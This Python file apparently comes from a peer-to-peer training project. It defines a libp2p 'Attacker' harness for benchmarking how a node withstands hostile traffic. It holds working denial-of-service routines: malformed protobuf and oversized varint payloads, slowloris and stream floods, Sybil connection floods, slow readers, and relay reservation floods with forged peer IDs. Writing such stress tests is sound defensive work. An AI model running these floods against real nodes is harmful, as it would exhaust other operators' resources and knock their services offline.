"""An attacker's toolkit: one real libp2p host (fresh keys each time it is asked) that throws
what a hostile stranger can throw at a node. Each attack is bounded in time and returns how many
bytes the victim actually accepted, so a flood benchmark can say what got through.

    async with Attacker.open() as attacker:
        await attacker.connect(victim_addr)
        report = await attacker.garbage_streams(victim_id, protocols)
        report = await attacker.huge_length_prefixes(victim_id, protocols)
        report = await attacker.slowloris(victim_id, protocol, seconds=10)
        report = await attacker.stream_flood(victim_id, protocol, streams=200)
        report = await attacker.slow_reader(victim_id, TENSOR, request, streams=4, rate=40_000)
        report = await attacker.connection_flood(victim_addr, identities=50)
        report = await attacker.relay_reservation_flood(victim_id, reservations=80)
        report = await attacker.relay_reservation_churn(victim_addr, identities=80)
    control_junk(control_socket)   # the owner's own shell gone wrong (local only)

Announcement floods and forged or future-dated stamps go through gossip: gossip_attacks.py.

No attack here depends on a bug we know of: they are the inputs any public node receives.
"""

from __future__ import annotations

import contextlib
import json
import random
from collections.abc import AsyncIterator, Sequence
from dataclasses import dataclass, field

import trio
from libp2p.abc import IHost
from libp2p.peer.id import ID
from libp2p.peer.peerinfo import PeerInfo, info_from_p2p_addr
from libp2p.relay.circuit_v2.pb.circuit_pb2 import HopMessage
from libp2p.relay.circuit_v2.pb.circuit_pb2 import PeerId as CircuitPeerId
from libp2p.relay.circuit_v2.protocol import PROTOCOL_ID as HOP
from libp2p.relay.circuit_v2.protocol_buffer import StatusCode
from libp2p.relay.circuit_v2.utils import read_delimited_msg, write_delimited_msg
from multiaddr import Multiaddr
from peertrain.node.net.host import build_host, connect
from peertrain.node.net.identity import Identity
from peertrain.protocol.framing import write_message
from peertrain.protocol.messages import Message, encode

UPSTREAM_PROTOCOLS = ("/meshsub/1.1.0", "/ipfs/id/1.0.0", "/ipfs/ping/1.0.0")


@dataclass(slots=True)
class AttackReport:
    name: str
    attempts: int = 0
    bytes_delivered: int = 0
    refused: int = 0  # streams or connections the victim refused or reset
    errors: dict[str, int] = field(default_factory=dict)
    held: list[float] = field(default_factory=list)  # seconds each slow stream was served
    granted: int = 0  # what the victim gave (relay reservations)

    def failed(self, exc: BaseException) -> None:
        self.refused += 1
        key = type(exc).__name__
        self.errors[key] = self.errors.get(key, 0) + 1


def garbage_payloads(rng: random.Random) -> list[bytes]:
    """Junk of the shapes parsers trip on: wrong protobuf wire types, truncated varints, random."""
    return [
        b"\x09" + b"\xff" * 9,  # varint length 9, then an invalid protobuf field
        b"\x80\x80\x80\x80\x80\x80\x80\x80\x80\x80\x01",  # an 11-byte varint: too long to be one
        bytes(rng.getrandbits(8) for _ in range(rng.randint(1, 512))),
        b"\x00" * 64,
    ]


class Attacker:
    def __init__(self, host: IHost, rng: random.Random, identity: Identity) -> None:
        self.host = host
        self.rng = rng
        self.identity = identity

    @classmethod
    @contextlib.asynccontextmanager
    async def open(cls, *, seed: int = 0) -> AsyncIterator[Attacker]:
        identity = Identity.generate()
        host = build_host(identity)
        async with host.run([]):
            yield cls(host, random.Random(seed), identity)

    async def connect(self, addr: str) -> ID:
        info = info_from_p2p_addr(Multiaddr(addr))
        await connect(self.host, info)
        return info.peer_id

    async def garbage_streams(
        self, victim: ID, protocols: Sequence[str], *, seconds: float = 5.0
    ) -> AttackReport:
        report = AttackReport("garbage streams")
        with trio.move_on_after(seconds):
            for protocol in protocols:
                for payload in garbage_payloads(self.rng):
                    await self._send_once(report, victim, protocol, payload)
        return report

    async def huge_length_prefixes(
        self, victim: ID, protocols: Sequence[str], *, seconds: float = 5.0
    ) -> AttackReport:
        """A length prefix promising 1 TB, then a trickle: the victim must not allocate it."""
        report = AttackReport("huge length prefixes")
        huge = _varint(1 << 40) + b"\x00" * 1024
        with trio.move_on_after(seconds):
            for protocol in protocols:
                await self._send_once(report, victim, protocol, huge)
        return report

    async def slowloris(
        self, victim: ID, protocol: str, *, streams: int = 16, seconds: float = 10.0
    ) -> AttackReport:
        """Streams that send one byte a second: each holds one of the victim's handler slots."""
        return await self._swarm_of("slowloris", self._drip, streams, seconds, victim, protocol)

    async def stream_flood(
        self, victim: ID, protocol: str, *, streams: int = 200, seconds: float = 10.0
    ) -> AttackReport:
        """Streams opened and held, each waiting for the victim's limits to cut it."""
        return await self._swarm_of(
            "stream flood", self._hold_open, streams, seconds, victim, protocol
        )

    async def bulk_junk(
        self, victim: ID, protocol: str, *, streams: int = 4, seconds: float = 5.0
    ) -> AttackReport:
        """As many bytes as the link takes: 64 KiB junk writes until the victim resets us."""
        return await self._swarm_of("bulk junk", self._pour, streams, seconds, victim, protocol)

    async def slow_reader(
        self,
        victim: ID,
        protocol: str,
        request: Message,
        *,
        streams: int = 4,
        rate: float = 40_000,
        seconds: float = 10.0,
    ) -> AttackReport:
        """Streams that ask for a big answer (a tensor range) and read it at `rate` bytes/s, just
        above what the victim demands: each holds a serving slot as long as it is let."""
        return await self._swarm_of(
            "slow reader", self._read_slowly, streams, seconds, victim, protocol, request, rate
        )

    async def _swarm_of(self, name: str, worker, count: int, seconds: float, *args) -> AttackReport:
        """`count` copies of `worker(report, *args)` at once, for `seconds`."""
        report = AttackReport(name)
        with trio.move_on_after(seconds):
            async with trio.open_nursery() as nursery:
                for _ in range(count):
                    nursery.start_soon(worker, report, *args)
        return report

    async def connection_flood(
        self, addr: str, *, identities: int = 50, seconds: float = 10.0
    ) -> AttackReport:
        """Fresh peer IDs cost nothing: `identities` new hosts connect and stay connected."""
        report = AttackReport("connection flood")
        info = info_from_p2p_addr(Multiaddr(addr))
        with trio.move_on_after(seconds):
            async with trio.open_nursery() as nursery:
                for _ in range(identities):
                    nursery.start_soon(self._sybil, report, info)
        return report

    async def relay_reservation_flood(
        self, victim: ID, *, reservations: int = 80, seconds: float = 10.0
    ) -> AttackReport:
        """RESERVE messages on one hop stream, each naming a fresh peer ID as the one to hold
        the reservation: upstream grants whatever peer the message names."""
        report = AttackReport("relay reservation flood")
        with trio.move_on_after(seconds):
            try:
                stream = await self.host.new_stream(victim, [HOP])
                for _ in range(reservations):
                    forged = Identity.generate().peer_id.to_bytes()
                    await self._reserve(report, stream, HopMessage(type=HopMessage.RESERVE,
                                        peer=CircuitPeerId(id=forged)))  # fmt: skip
                await stream.reset()
            except Exception as exc:  # noqa: BLE001 - the victim cut the stream: good
                report.failed(exc)
        return report

    async def relay_reservation_churn(
        self, addr: str, *, identities: int = 80, seconds: float = 20.0
    ) -> AttackReport:
        """Fresh identities that each reserve for themselves and leave at once: upstream keeps
        a reservation for its whole hour-long TTL after its holder has gone."""
        report = AttackReport("relay reservation churn")
        info = info_from_p2p_addr(Multiaddr(addr))
        with trio.move_on_after(seconds):
            for _ in range(identities):
                host = build_host(Identity.generate())
                try:
                    async with host.run([]):
                        await connect(host, info)
                        stream = await host.new_stream(info.peer_id, [HOP])
                        await self._reserve(report, stream, HopMessage(type=HopMessage.RESERVE))
                        await host.disconnect(info.peer_id)
                except Exception as exc:  # noqa: BLE001 - refused: the next identity tries
                    report.failed(exc)
        return report

    @staticmethod
    async def _reserve(report: AttackReport, stream, message: HopMessage) -> None:
        report.attempts += 1
        await write_delimited_msg(stream, message)
        report.bytes_delivered += message.ByteSize()
        answer = await read_delimited_msg(stream, HopMessage)
        if answer.status == StatusCode.OK:
            report.granted += 1
        else:
            report.refused += 1

    # -- pieces ---------------------------------------------------------------------------------

    async def _send_once(
        self, report: AttackReport, victim: ID, protocol: str, payload: bytes
    ) -> None:
        report.attempts += 1
        try:
            with trio.fail_after(2):
                stream = await self.host.new_stream(victim, [protocol])
                await stream.write(payload)
                report.bytes_delivered += len(payload)
                await trio.sleep(0.05)
                await stream.reset()
        except Exception as exc:  # noqa: BLE001 - a refusal is the victim defending itself
            report.failed(exc)

    async def _drip(self, report: AttackReport, victim: ID, protocol: str) -> None:
        report.attempts += 1
        try:
            stream = await self.host.new_stream(victim, [protocol])
            while True:
                await stream.write(b"\x01")
                report.bytes_delivered += 1
                await trio.sleep(1.0)
        except Exception as exc:  # noqa: BLE001 - the victim's deadline cut us off: good
            report.failed(exc)

    async def _read_slowly(
        self, report: AttackReport, victim: ID, protocol: str, request: Message, rate: float
    ) -> None:
        report.attempts += 1
        started = trio.current_time()
        try:
            stream = await self.host.new_stream(victim, [protocol])
            await write_message(stream, request)
            report.bytes_delivered += len(encode(request))
            while True:  # 4 KiB at a time, paced: no more than `rate` bytes/s taken
                if not await stream.read(4096):
                    break
                await trio.sleep(4096 / rate)
            report.held.append(trio.current_time() - started)
        except Exception as exc:  # noqa: BLE001 - reset by the victim's deadline or limits
            report.held.append(trio.current_time() - started)
            report.failed(exc)

    async def _pour(self, report: AttackReport, victim: ID, protocol: str) -> None:
        chunk = bytes(self.rng.getrandbits(8) for _ in range(256)) * 256
        while True:
            report.attempts += 1
            try:
                stream = await self.host.new_stream(victim, [protocol])
                while True:
                    await stream.write(chunk)
                    report.bytes_delivered += len(chunk)
            except Exception as exc:  # noqa: BLE001 - reset by the victim: open another one
                report.failed(exc)
                await trio.sleep(0.01)

    async def _hold_open(self, report: AttackReport, victim: ID, protocol: str) -> None:
        report.attempts += 1
        try:
            stream = await self.host.new_stream(victim, [protocol])
            await trio.sleep_forever()
            await stream.reset()
        except Exception as exc:  # noqa: BLE001 - refused or reset by the victim's limits
            report.failed(exc)

    async def _sybil(self, report: AttackReport, info: PeerInfo) -> None:
        report.attempts += 1
        host = build_host(Identity.generate())
        try:
            async with host.run([]):
                await connect(host, info)
                await trio.sleep_forever()
        except Exception as exc:  # noqa: BLE001 - the victim's connection budget refused us
            report.failed(exc)


def control_junk() -> list[bytes]:
    """Lines the owner's own scripts might send the control socket by mistake."""
    return [
        b'{"method": "status", "params": [1]}\n',
        b'{"method": "debug.offer", "params": {"mib": [1]}}\n',
        b'{"method": "run.create", "params": {"name": [1]}}\n',
        b"[" * 40000 + b"\n",
        json.dumps({"method": "status", "params": {"x": "y" * 70000}}).encode() + b"\n",
        b"\xff\xfe\x00garbage\n",
    ]


def _varint(value: int) -> bytes:
    out = bytearray()
    while True:
        byte = value & 0x7F
        value >>= 7
        out.append(byte | (0x80 if value else 0))
        if not value:
            return bytes(out)
